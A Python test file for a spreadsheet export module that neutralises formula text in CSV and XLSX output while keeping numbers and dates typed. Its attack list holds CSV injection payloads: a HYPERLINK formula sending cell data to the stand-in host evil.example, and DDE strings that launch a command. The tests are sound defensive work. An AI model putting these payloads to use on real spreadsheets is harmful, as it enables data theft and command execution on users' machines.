"""The formula-safe writer (DESIGN section 2): every text cell that a spreadsheet would
run as a formula is written as text; numbers and dates keep their type."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import openpyxl
import pytest

from bip import tabular

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-1+2",
]


def csv_bytes(rows, **kwargs) -> bytes:
    out = io.StringIO(newline="")
    tabular.write_csv(out, rows, **kwargs)
    return out.getvalue().encode("utf-8")


def test_csv_neutralises_formula_text_byte_by_byte():
    assert csv_bytes([[a] for a in ATTACKS], bom=False) == (
        b'"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Klik"")"\r\n'
        b"'+cmd|' /C calc'!A0\r\n"
        b"'-2+3+cmd|' /C calc'!A0\r\n"
        b"'@SUM(1+1)*cmd|' /C calc'!A0\r\n"
        b"'\t=1+1\r\n"
        b'"\'\r=1+1"\r\n'
        b"'-1+2\r\n"
    )


def test_csv_keeps_numbers_dates_and_plain_text():
    rows = [[-1, -1.5, Decimal("2.25"), date(2026, 4, 1), "Anna", "", None, "a;b"]]
    assert csv_bytes(rows, header=["n", "x", "d", "dato", "navn", "e", "f", "g"]) == (
        b'\xef\xbb\xbfn;x;d;dato;navn;e;f;g\r\n-1;-1,5;2,25;2026-04-01;Anna;;;"a;b"\r\n'
    )


def test_csv_with_comma_keeps_the_decimal_point():
    assert csv_bytes([[-1.5, "=1", "1,5"]], delimiter=",", bom=False) == (
        b'-1.5,\'=1,"1,5"\r\n'
    )


def test_csv_writer_refuses_other_delimiters():
    with pytest.raises(ValueError, match="delimiter"):
        tabular.csv_writer(io.StringIO(), delimiter="\t")


def test_xlsx_neutralises_formula_text_and_keeps_numbers():
    out = io.BytesIO()
    moment = datetime(2026, 4, 1, 10, 30, tzinfo=UTC)
    tabular.write_xlsx(
        out,
        [[a, -1, 2.5, date(2026, 4, 1), moment] for a in ATTACKS],
        header=["tekst", "tal", "decimal", "dato", "tid"],
        sheet_title="Rapport",
    )
    out.seek(0)
    sheet = openpyxl.load_workbook(out)["Rapport"]
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(ATTACKS)
    for attack, (text, number, decimal, day, at) in zip(ATTACKS, rows, strict=True):
        assert text.data_type == "s"
        # XML reads a bare carriage return back as a line feed
        assert text.value == "'" + attack.replace("\r", "\n")
        assert (number.data_type, number.value) == ("n", -1)
        assert (decimal.data_type, decimal.value) == ("n", 2.5)
        assert (day.is_date, day.value.date()) == (True, date(2026, 4, 1))
        # Europe/Copenhagen wall-clock time: Excel has no time zones
        assert (at.is_date, at.value) == (True, datetime(2026, 4, 1, 12, 30))  # noqa: DTZ001
    formulas = [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


def test_xlsx_drops_characters_xml_forbids():
    out = io.BytesIO()
    tabular.write_xlsx(out, [["Anna\x00 \x07Østergård"]])
    out.seek(0)
    assert openpyxl.load_workbook(out).active["A1"].value == "Anna Østergård"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Anna", "Anna"),
        ("1-2", "1-2"),
        (" =1", " =1"),
        ("=1", "'=1"),
        ("-", "'-"),
        ("", ""),
    ],
)
def test_neutralise(text, expected):
    assert tabular.neutralise(text) == expected


TYPED_KINDS = ["str", "int", "float", "date", "float", "int", "other"]
TYPED_ROWS = [
    ["Anna", 1, 1.5, date(2026, 4, 1), None, -3, 2],
    [None, None, None, None, 3.0, 0, None],
    # what a text column holds, and text or other types where a number or date is
    # declared: all of it written as `writerows` writes it, text neutralised
    *([a, a, a, a, a, a, a] for a in ATTACKS),
    ["x", True, Decimal("2.25"), datetime(2026, 4, 1, 8, 30, tzinfo=UTC), 7, 1.5, -1],
    ["1,5", False, float("nan"), "2026-04-01", -0.0, 10**20, 1e-7],
]


@pytest.mark.parametrize("delimiter", [";", ","])
def test_typed_rows_are_written_exactly_as_plain_rows(delimiter):
    typed = io.StringIO(newline="")
    tabular.write_csv(typed, TYPED_ROWS, delimiter=delimiter, kinds=TYPED_KINDS)
    plain = io.StringIO(newline="")
    tabular.write_csv(plain, TYPED_ROWS, delimiter=delimiter)
    assert typed.getvalue() == plain.getvalue()
    # the attack in the column declared "int" is neutralised too
    assert f"{delimiter}'+cmd|' /C calc'!A0{delimiter}" in typed.getvalue()


def test_typed_rows_neutralise_text_in_every_column():
    out = io.StringIO(newline="")
    writer = tabular.csv_writer(out, delimiter=";")
    writer.writerows_typed([[a] * 4 for a in ATTACKS], ["str", "int", "float", "date"])
    rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert len(rows) == len(ATTACKS)
    for row in rows:
        assert all(cell.startswith("'") for cell in row), row


def test_typed_rows_refuse_a_row_of_another_length():
    writer = tabular.csv_writer(io.StringIO(newline=""))
    with pytest.raises(ValueError, match="columns"):
        writer.writerows_typed([["a", 1, 2]], ["str", "int"])
